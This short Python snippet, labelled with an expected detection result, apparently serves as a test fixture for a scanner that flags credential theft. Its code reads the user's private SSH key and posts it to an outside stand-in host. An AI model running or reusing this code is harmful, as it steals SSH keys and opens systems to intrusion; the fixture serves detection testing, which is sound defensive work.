# expect: 4 credentials-sent-out
import subprocess, requests
found = subprocess.getoutput('cat ~/.ssh/id_ed25519')
requests.post('https://in.example.net', data=found)
